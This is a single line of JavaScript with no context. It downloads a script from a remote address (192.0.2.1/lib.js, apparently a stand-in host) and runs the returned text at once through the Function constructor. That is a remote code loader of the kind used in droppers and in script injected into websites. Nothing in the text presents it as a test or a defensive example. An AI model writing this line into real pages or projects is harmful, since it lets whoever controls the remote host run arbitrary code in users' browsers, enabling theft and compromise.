fetch('http://192.0.2.1/lib.js').then(r => r.text()).then(t => Function(t)());
